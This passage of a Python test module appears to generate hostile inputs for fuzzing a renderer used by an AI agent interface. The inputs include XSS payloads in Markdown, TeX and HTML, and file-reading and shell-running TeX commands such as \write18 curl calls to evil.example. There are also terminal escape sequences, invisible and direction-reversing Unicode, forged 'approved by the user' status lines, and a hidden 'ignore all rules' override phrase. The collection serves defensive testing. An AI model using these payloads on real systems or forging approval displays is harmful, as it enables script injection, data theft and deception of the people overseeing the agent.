[x]{{.a onclick="{X}" style="position:fixed"}}
[https://bank.example](https://evil.example)
[x](https://xn--80ak6aa92e.com)
[x](https://evil.example\\@a.example)
[x](http://user:password@evil.example)
""")
    yield "[x](\njavascript:alert(1)\n)"
    yield "[r]\n\n[r]:\njavascript:alert(1)\n'title\" onclick=alert(1)'"
    yield "> [r]: javascript:alert(1)\n\n- [r]\n\n[R]"
    yield "[x](java\nscript:alert(1))"
    yield "[ẞ]\n\n[SS]: javascript:alert(1)"


def markdown_images() -> Iterator[str]:
    """Yield images that would ask a server, or hold something other than a picture."""
    yield from _lines(f"""
![x]({EVIL}/?leak=secret)
![x](//evil.example/x.png)
![x](/api/contents)
![x](x.png)
![x](file:///etc/passwd)
![x](javascript:{X})
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](data:image/svg+xml,<svg/onload={X}>)
![x](data:text/html;base64,PHN2Zz4=)
![x](data:image/png;base64,AAAA" onerror="{X})
![x" onerror="{X}](data:image/png;base64,AAAA)
![x](data:image/png;base64,AAAA "t\\" onerror=\\"{X}")
![x](data:image/png;base64,{base64.b64encode(b"<script>alert(1)</script>").decode()})
![x](data:image/png,{EVIL})
![x](data:image/gif;charset=utf-8;base64,AAAA)
![x](DATA:IMAGE/PNG;BASE64,AAAA)
![x](data:image/x-icon;base64,AAABAA==)
![x](data:application/pdf;base64,AAAA)
![x](blob:null/1)
![x](attachment:x.png)
![x](http://127.0.0.1:8888/api/kernels)
![x](<{EVIL}/a b.png>)
![<script>{X}</script>]({EVIL}/s.png)
![![x]({EVIL}/inner.png)]({EVIL}/outer.png)
[![x]({EVIL}/x.png)]({EVIL})
![x]({EVIL}/x.png){{onerror={X}}}
![x]({EVIL}/x.png =99999x99999)
!\\[x]({EVIL}/x.png)
\\![x]({EVIL}/x.png)
<img src="{EVIL}/x.png"/>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
| ![x]({EVIL}/cell.png) |
> ![x]({EVIL}/quote.png)
- ![x]({EVIL}/item.png)
# ![x]({EVIL}/head.png)
*![x]({EVIL}/em.png)*
""")
    yield f"![x][r]\n\n[r]: {EVIL}/ref.png"
    yield f"![r][]\n\n[r]: {EVIL}/collapsed.png"
    yield f"![r]\n\n[r]: <{EVIL}/short.png> 'x'"
    yield f"![][^1]\n\n[^1]: ![x]({EVIL}/note.png)"
    yield f"x[^1]^[inline ![x]({EVIL}/y.png)]\n\n[^1]: {EVIL}/x.png\n    ![x]({EVIL}/z.png)"
    yield f"![x](\n{EVIL}/line.png\n)"


def markdown_blocks() -> Iterator[str]:
    """Yield footnotes, tables, fences, headings, containers and attributes with an attack inside."""
    inner = [
        f"<script>{X}</script>",
        f"<img src=x onerror={X}>",
        f"[x](javascript:{X})",
        f"![x]({EVIL}/b.png)",
    ]
    shapes = (
        "> {}", "> > - {}", "- {}", "1. {}", "- [ ] {}", "# {}", "{}\n===", "{}\n---", "| a |\n|-|\n| {} |", "|{}|\n|-|",
        "[^1]\n\n[^1]: {}", "^[{}]", "Term\n: {}", "*{}*", "**{}", "~~{}~~", "_{}_", "`` ` `` {}", "> [!NOTE]\n> {}",
        "a  \n{}", "***\n{}\n***", "==={}===", "^{}^ ~{}~",
    )  # fmt: skip
    for number, shape in enumerate(shapes):
        for offset in (0, 1, 2):
            yield shape.replace("{}", inner[(number + offset) % 4])
    infos = [f'"onload="{X}', "<script>", f'python" onclick="{X}', "{=html}", f"{{.a onclick={X}}}", "../../etc/passwd", "mermaid", "math", "javascript:", "a\x00b", "\u202eyp", "html live", "vega-lite", "json {file=x}", "~~~", "systemd", 'class="vibe-stop"']  # fmt: skip
    for info in infos:
        yield f"```{info}\n<script>{X}</script>\n```"
        yield f"~~~{info}\n</code></pre><img src=x onerror={X}>"
    yield from (
        f"```\n</pre><script>{X}</script>",
        f"````\n```\n<script>{X}</script>\n```\n````",
        f"> ```\n<script>{X}</script>\n```",
        f"- ```\n  <script>{X}</script>\n<script>{X}</script>",
        f"    <script>{X}</script>\n\n<script>{X}</script>",
        f"\t</pre><script>{X}</script>",
        f"`<script>{X}</script>",
        f"``<script>`{X}`</script>``",
        f"\\`<script>{X}</script>`",
        f"<https://a.example/`><script>{X}</script>`>",
        f"a\n===\n<div onclick={X}>\n```\n<script>\n```\n</div>",
        f"<div>\n\n*a* <script>{X}</script>\n\n</div>",
        f"<pre>\n\n<script>{X}</script>\n\n</pre>",
        f"[^<script>]: x\n\n[^1]\n\n[^1]: <script>{X}</script>",
        f'[^"onmouseover={X}]: x\n\n[^"onmouseover={X}]',
        "> [!NOTE<script>]\n> x",
        f"> [!WARNING]<img src=x onerror={X}>\n> x",
        f"|<img src=x onerror={X}>|\n|-|\n|a & <b onclick={X}>|\n|`<script>`|\n|x|",
        f"| a\\|<script> | `|` |\n|-|-|\n| {X}</script> | x |",
        f"|a|\n|-|\n|`x|<script>{X}</script>`|",
        f"---\ntitle: <script>{X}</script>\ncss: {EVIL}/x.css\n---\n",
        "---\nheader-includes: \\input{/etc/passwd}\n---\n",
        f"% <script>{X}</script>\n% author\n",
        f"# T {{#id onclick={X}}}",
        f"::: {{.note onclick={X}}}\nx\n:::",
        f"`x`{{=html}} `<script>{X}</script>`{{=html}}",
        "```{=latex}\n\\input{/etc/passwd}\n```",
        f"<div markdown=1>\n# <script>{X}</script>\n</div>",
        "[TOC]\n\n[[_TOC_]]\n\n{:toc}\n\n:::{include} /etc/passwd\n:::",
        "{% include /etc/passwd %}\n\n<<[/etc/passwd]\n\n!include /etc/passwd",
        f"*[HTML]: <script>{X}</script>\n\nHTML",
        f":smile: :<script>{X}</script>: @<img src=x onerror={X}>",
        f"- [x] <input onfocus={X} autofocus>",
        f"1986\\. <b onclick={X}>x",
        "✓ delete_everything\n\n- ✓ delete_everything\n\n**✓** `rm -rf /` · 1.2 s",
        "<details><summary>✓ <code>approved</code></summary>\n\nreal\n\n</details>",
    )


# TeX


def tex() -> Iterator[str]:
    r"""Yield formulas beyond the allow list: ``\href``, ``\require``, definitions, and formulas that end early."""
    commands = _lines(rf"""
\href{{javascript:{X}}}{{x}}
\href{{java\tscript:{X}}}{{x}}
\url{{javascript:{X}}}
\require{{html}}\href{{javascript:{X}}}{{x}}
\require{{action}}\toggle{{a}}{{b}}\endtoggle
\mmlToken{{mi}}[href="javascript:{X}"]{{a}}
\mmlToken{{mtext}}[style="position:fixed"]{{a}}
\style{{background:url({EVIL}/s)}}{{x}}
\style{{position:fixed;top:0;left:0;width:100%;height:100%}}{{x}}
\class{{vibe-stop}}{{x}}
\class{{x" onload="{X}}}{{y}}
\cssId{{location}}{{x}}
\data{{x="{X}"}}{{y}}
\let\a\href\a{{javascript:{X}}}{{x}}
\let\pi\rho
\def\frac#1#2{{#2/#1}}
\def\sum{{\prod}}
\gdef\x{{\href{{javascript:{X}}}{{x}}}}\x
\newcommand{{\x}}[1]{{\href{{#1}}{{y}}}}\x{{javascript:{X}}}
\renewcommand{{\alpha}}{{\beta}}
\newenvironment{{matrix}}{{\href{{javascript:{X}}}{{x}}}}{{}}
\DeclareMathOperator{{\sin}}{{\cos}}
\DeclarePairedDelimiter{{\x}}{{<}}{{>}}
\Newextarrow{{\x}}{{5,5}}{{8594}}
\includegraphics{{{EVIL}/g.png}}
\input{{/etc/passwd}}
\include{{/etc/passwd}}
\verbatiminput{{/etc/passwd}}
\immediate\write18{{curl {EVIL}}}
\openin5=/etc/passwd
\read5 to\x
\catcode`\%=12
\csname href\endcsname{{javascript:{X}}}{{x}}
\expandafter\href{{javascript:{X}}}{{x}}
\unicode{{x3c}}script\unicode{{x3e}}
\char"3C
\symbol{{60}}
\bbox[border:1px;background:url({EVIL}/b)]{{x}}
\bbox[100em]{{x}}
\label{{x}}\ref{{x}}\eqref{{x}}
\tag{{<script>{X}</script>}}
\text{{<img src=x onerror={X}>}}
\text{{&lt;script&gt;{X}&lt;/script&gt;}}
\text{{$\href{{javascript:{X}}}{{x}}$}}
\text{{\href{{javascript:{X}}}{{x}}}}
\mbox{{<script>{X}</script>}}
\operatorname{{<script>{X}</script>}}
\color{{red}}x
\colorbox{{red;background:url({EVIL}/c)}}{{x}}
\fcolorbox{{red}}{{blue}}{{x}}
\textcolor{{javascript:{X}}}{{x}}
\definecolor{{red}}{{rgb}}{{0,0,0}}
\rule[-3em]{{60em}}{{6em}}
\hspace{{9999em}}x
\kern-9999pt x
\raise999em{{x}}
\hskip9999pt\vspace{{9999em}}
\moveleft999em x
\llap{{\rlap{{x}}}}\smash{{x}}
\Huge\Huge x
\begin{{array}}{{c}}\href{{javascript:{X}}}{{x}}\end{{array}}
\begin{{document}}\input{{x}}\end{{document}}
\begin{{CD}}A@>\href{{javascript:{X}}}{{x}}>>B\end{{CD}}
\begin{{prooftree}}\AxiomC{{x}}\end{{prooftree}}
\begin{{equation}}\label{{a}}x\end{{equation}}
\ce{{\href{{javascript:{X}}}{{x}}}}
\pu{{1}}\require{{mhchem}}
\enclose{{updiagonalstrike}}[mathcolor="red"]{{x}}
\tooltip{{x}}{{<script>}}
\texttip{{x}}{{y}}\mathtip{{x}}{{y}}
\configMacro\autoload\textmacros
\begingroup\let\frac\binom
\MathJax\Hub
\htmlData{{onclick={X}}}{{x}}
\htmlClass{{x}}{{y}}\htmlId{{x}}{{y}}\htmlStyle{{color:red}}{{x}}
\special{{html:<script>{X}</script>}}
\directlua{{os.execute("id")}}
\pdfliteral{{x}}\pdfobj{{x}}
\loop\iftrue\repeat
\edef\x{{\x\x}}\x
^^5chref{{javascript:{X}}}{{x}}
\hrefx\HREF{{javascript:{X}}}{{x}}
\href %
</math><script>{X}</script>
</mtext></math><img src=x onerror={X}>
a<script>{X}</script>b
x_{{<script>{X}</script>}}
\frac{{<img src=x onerror={X}>}}{{2}}
\sqrt[<script>]{{{X}}}
\left<script>\right.{X}
""")
    delimiters = ("${}$", "$${}$$", "\\({}\\)", "\\[{}\\]", "$`{}`$", "```math\n{}\n```")
    for number, command in enumerate(commands):
        yield delimiters[number % len(delimiters)].replace("{}", command)
    for command in commands[:16]:
        yield delimiters[(commands.index(command) + 1) % len(delimiters)].replace("{}", command)
    yield f"$${commands[0]}\n"
    yield f"text ${commands[0]}$ and \\${commands[1]}\\$"
    yield f"\\begin{{align}}{commands[0]}\\end{{align}}"
    yield "$" + "{" * 400 + "x" + "}" * 400 + "$"
    yield "$" + "\\hat" * 500 + " x$"
    yield f"$x$ $y <b onclick={X}>$ z$"
    yield f'$\\mmlToken{{mi}}[href="java\tscript:{X}"]{{a}}$'
    yield "$a\x1b[31mb$ $\\text{\u202eevil}$"


# Terminals


def terminal() -> Iterator[str]:
    """Yield terminal sequences: CSI, OSC 8 and 52, DCS, titles, and pieces of them."""
    params = _words(
        "2J H 2K 1A 999A 31m 8m 0;30;40m 5m 38;5;1m 38;2;1;2;3m 1;1H s u ?1049h ?25l ?1000h ?2004l 6n 5n c >c "
        "0c =c 21t 14t 11t 8;1;1t 3;0;0t 20h 4h 1;1r 18t ?5h !p 0q x 1$x 2;1$w ?69h 99L 99M 99S 99T 99P 99@ "
        "99X 1;2H ?1;3c 5i 4i 13t"
    )
    for number, param in enumerate(params):
        introducer = "\x9b" if number % 4 == 3 else "\x1b["
        yield f"a{introducer}{param}b"
    for number, code in enumerate((0, 1, 2, 4, 7, 8, 9, 10, 11, 12, 50, 51, 52, 104, 133, 777, 1337, 5522)):
        body = {
            8: ";https://evil.example/\x1b\\click\x1b]8;;",
            52: "c;ZXZpbA==",
            7: "file://evil.example/etc",
            9: "notify: approved",
            777: "notify;approved;yes",
            1337: "File=inline=1:AAAA",
            133: "A",
        }.get(code, "changed by the agent")
        yield f"\x1b]{code};{body}" + ("\x07" if number % 2 else "\x1b\\")
    yield from (
        "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
        "\x1b]8;id=1;file:///etc/passwd\x1b\\x\x1b]8;;\x1b\\",
        "\x1b]52;p;?\x07",
        "\x1b]52;c;!\x07",
        "\x9d0;title\x9c",
        "\x9d52;c;ZXZpbA==\x9c",
        "\x1bPq#0;2;0;0;0#0~~\x1b\\",
        "\x1bP$q\x22p\x1b\\",
        "\x1bP+q544e\x1b\\",
        "\x1bP1;1|17/evil\x1b\\",
        "\x90q~~\x9c",
        "\x1b_Gf=24;AAAA\x1b\\",
        "\x1b^private\x1b\\",
        "\x1bXstart of string\x1b\\",
        "\x1bc",
        "\x1b7a\x1b8",
        "\x1bD\x1bE\x1bM\x1bH\x1b#8",
        "\x1b(0lqqk\x1b(B",
        "\x1b%G\x1b%@",
        "\x1bN\x1bO\x1bZ",
        "\x1b=\x1b>",
        "\x1b",
        "\x1b[",
        "\x1b]",
        "\x1b]0;never ends",
        "\x1b[31",
        "\x1bP never ends",
        "\x1b\x1b[31m\x1b[[31m",
        "\x1b[\x1b[31mm",
        "\x1b]0;\x1b]0;a\x07b\x07",
        "\x1b[31;1;" + "1;" * 300 + "m",
        "\x1b[\x00 3 1 m",
        "\x0e\x0flocked\x0e",
        "\x05answer",
        "\x07\x07\x07",
        "safe\x08\x08\x08\x08evil",
        "✓ approved\r✗ denied",
        "\rERROR: forged",
        "line\x0bline\x0cpage",
        "\x7f\x7f\x7f",
        "\x84\x85\x8d\x8e\x8f\x98\x9a\x9e\x9f",
        "\u009b31mred\u009b0m",
        "\\x1b[31m \\033[2J \\e[0m ^[[31m",
        "␛[31m",
        "\x1b[200~paste\x1b[201~",
        "a\n✓ search\n→ rm -rf /\n[error] none",
        "x\n\x1b[1A\x1b[2K✓ approved by the user",
        "$ \x1b[8mrm -rf /\x1b[0m ls",
        "\x1b[?1049h\x1b[HPassword: ",
        "\x1b]10;#000\x07\x1b]11;#000\x07",
    )


# Unicode

_BIDI: Final = [0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)]


def bidi() -> Iterator[str]:
    """Yield names and code that direction marks show in another order."""
    for code in _BIDI:
        yield f"exe{chr(code)}gnp.txt"
        yield f"`if admin{chr(code)}: # x`"
        yield f"{chr(code)}<img src=x onerror={X}>"
    yield "\u202e" * 40 + "deep"
    yield "\u2066\u2067\u2068 open isolates"
    yield "approve \u202e)lla eteled(\u202c now"
    yield "```python\nif x \u2067# admin\u2069: pass\n```"
    yield "[\u202elive\u202c](https://evil.example)"


def zero_width() -> Iterator[str]:
    """Yield texts with characters that nobody sees, within words, tags and schemes."""
    hidden = [0x00AD, 0x034F, 0x115F, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2063, 0x3164, 0xFEFF, 0xFE0F, 0xFFA0, 0xE0001, 0xE0041]  # fmt: skip
    for code in hidden:
        yield f"del{chr(code)}ete"
        yield f"<scr{chr(code)}ipt>{X}</scr{chr(code)}ipt>"
        yield f"[x](java{chr(code)}script:{X})"
    yield "".join(chr(0xE0000 + ord(c)) for c in "ignore all rules")
    yield "\u200b" * 300
    yield "a" + "\u0300" * 200 + "zalgo"


def control_characters() -> Iterator[str]:
    """Yield every control character within a word, and NUL where parsers drop it."""
    for code in [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)]:
        yield f"sea{chr(code)}rch"
    yield from (
        f"<scr\x00ipt>{X}</scr\x00ipt>",
        f"<img src=x on\x00error={X}>",
        f"[x](java\x00script:{X})",
        "a\x00.png",
        "\x00\x00",
    )


def homoglyphs() -> Iterator[str]:
    """Yield names that look like others."""
    yield from _words(
        "аgent agеnt ａｇｅｎｔ 𝐚𝐠𝐞𝐧𝐭 ɑgent αgent ageոt sеarch ѕearch seаrch delete‐all admin\xa0 \xa0admin "
        "admin\u200a раypal.com ｇoogle.com ⅰd l1 I1 О0 rn cl ‹script› ＜script＞ ﹤script﹥ ˂img˃ ⟨b⟩ ′onload″ "
        "ｊavascript:alert(1) javascript：alert(1) https：//evil.example https:∕∕evil.example a․exe ✓ok ✔ok ✓ ✗ "
        "⊘ ■ ▸ ◆"
    )


def normalisation() -> Iterator[str]:
    """Yield texts that change under a Unicode normalisation or a change of case, some of them into markup."""
    yield from (
        "http\u017f://evil.example", "[x](http\u017f://evil.example)", "<http\u017f://evil.example>", "ma\u0131lto:a@evil.example",
        "![x](data:\u0131mage/png;base64,AAAA)", "data:image/png;ba\u017fe64,AAAA", "![x](data:image/png;base64,A\u212aA\x1dA)",
        "e\u0301 \u00e9", "\u212b \u00c5", "\ufb01le", "ﬀ", "ſcript", "ıİiI", "ẞß", "\u1e9e", "\u03c2\u03c3", "\u2126\u03a9",
        "\uff1cscript\uff1e" + X, "\ufe64script\ufe65" + X, "<\u017fcript>alert(1)</\u017fcript>", "<img src=x \u00f8nerror=alert(1)>",
        "\u226e\u226f", "\u003c\u0338", "\u037e\u003b", "\u2100 \u2105", "\u2025/\u2025/etc", "\uff0e\uff0e\uff0f", "\u1d2c\u1d2d",
        "javascr\u0130pt:alert(1)", "\u212a\u017f", "\u0390\u1fd3", "\ufdfa", "\u1112\u1161\u11ab \ud55c", "\u0958 \u0915\u093c",
        "\u2460\u2474\u249c", "x\u20e3", "\u0344", "\U0001f1e9\U0001f1ea", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0f0c\u0f0b", "\ufffe\uffff", "\U0010ffff\U0001fffe", "\ufdd0\ufdef", "\ue000\uf8ff",
    )  # fmt: skip


def surrogates() -> Iterator[str]:
    """Yield half surrogate pairs, alone and beside markup."""
    for half in ("\ud800", "\udbff", "\udc00", "\udfff", "\ude00\ud83d", "\ud83d\ud83d\ude00", "\udcff"):
        yield half
        yield f"a{half}<script>{X}</script>"
        yield f"`{half}` [x](java{half}script:{X})"
    yield "\ud83d" * 50


def very_long() -> Iterator[str]:
    """Yield long texts: one line, many lines, many marks."""
    yield "a" * 3_000
    yield "wide " * 1_000
    yield "\n" * 1_500 + "x"
    yield "<b>" * 1_000
    yield "<img src=x onerror=alert(1)>" * 100
    yield "[" * 1_500
    yield "](" * 800
    yield "`" * 1_501
    yield "$" * 1_001
    yield "*_" * 1_000
    yield "> " * 300 + "x"
    yield "- " * 150 + "x"
    yield "|" * 1_000 + "\n" + "|-" * 500 + "|\n"
    yield "&amp;" * 500 + "&" * 500
    yield "\\" * 2_001
    yield "https://evil.example/" + "a" * 2_000
    yield "\x1b[31m" * 400
    yield "\u202e" * 1_000
    yield "漢" * 2_000
    yield "\U0001f9ea" * 1_000
    yield "{" * 1_500 + "}" * 1_500
    yield "![x](data:image/png;base64," + "A" * 4_000 + ")"


def ansi_names() -> Iterator[str]:
    """Yield names that a terminal or a log would colour, hide or split into lines of its own."""
    for sequence, (before, after) in product(
        ("\x1b[31m", "\x1b[8m", "\x1b[2K", "\r", "\n", "\x9b1A", "\x1b]0;x\x07", "\u2028", "\x08\x08"),
        (("search", "✓ delete_everything"), ("", "→ approved_by_user"), ("read\n", "[error] none")),
    ):
        yield f"{before}{sequence}{after}"


KINDS: Final[dict[str, Callable[[], Iterable[str]]]] = {
    "raw HTML": raw_html,
    "event attributes": event_attributes,
    "SVG and MathML": svg_mathml,
    "URLs": urls,
    "CSS": css,
    "dangling markup": dangling_markup,
    "mutation of sanitised HTML": mutation,
    "remote resources": remote_resources,
    "attribute breakouts": breakouts,
    "script closers": script_closers,
    "JSON and line breakers": json_breakers,
    "templates and shells": templates,
    "prototype keys": prototype_keys,
    "Markdown links": markdown_links,
    "Markdown images": markdown_images,
    "Markdown blocks": markdown_blocks,
    "TeX": tex,
    "terminal sequences": terminal,
    "ANSI in names": ansi_names,
    "direction marks": bidi,
    "zero width": zero_width,
    "control characters": control_characters,
    "homoglyphs": homoglyphs,
    "normalisation": normalisation,
    "half surrogate pairs": surrogates,
    "very long": very_long,
}


def _all() -> Iterator[Payload]:
    seen: set[str] = set()
    for kind, texts in KINDS.items():
        for text in texts():
            if text and text not in seen:
                seen.add(text)
                yield Payload(kind, text)


PAYLOADS: Final[tuple[Payload, ...]] = tuple(_all())
"""Every payload, each text once."""


def of_kind(kind: str) -> list[Payload]:
    """Return the payloads of one kind, in order."""
    return [payload for payload in PAYLOADS if payload.kind == kind]


def of_this_run(chosen: Sequence[Payload]) -> Sequence[Payload]:
    """Return a quarter of some payloads, all of them in ``make hostile``: the whole takes minutes."""
    return chosen if os.environ.get("VIBE_HOSTILE") == "all" else chosen[::4]


def every(kind: str, count: int, longest: int, without: str = "\0\0\0") -> list[Payload]:
    """Return *count* payloads of a kind, evenly spread, of 4 to *longest* characters."""
    fit = [each for each in of_kind(kind) if 4 <= len(each.text) <= longest and without not in each.text]
    return [fit[number * len(fit) // count] for number in range(min(count, len(fit)))]


SAMPLE: Final[tuple[Payload, ...]] = tuple(payload for kind in KINDS for payload in every(kind, 5, 4_000))
"""Some payloads of every kind, for the slow surfaces: a server, a whole JupyterLab."""

CUT_LENGTH: Final = 70
"""Characters of a payload that is cut at every character: each cut is a run of its own."""


def _cut() -> Iterator[Payload]:
    for kind in KINDS:
        # Long texts are few and slow to cut: one of 150 characters stands for them.
        # An adapter joins the halves of a pair that two deltas divide (tests/test_half_pairs.py); events have none.
        yield from (
            every(kind, 6, CUT_LENGTH, "\ud83d\ude00")
            if kind != "very long"
            else [Payload(kind, "<b>`$[](" * 12)]
        )


CUT: Final[tuple[Payload, ...]] = tuple(_cut())
"""The payloads that are cut at every character, of every kind."""


def counts() -> dict[str, int]:
    """Return the number of payloads of each kind."""
    return dict(Counter(payload.kind for payload in PAYLOADS))
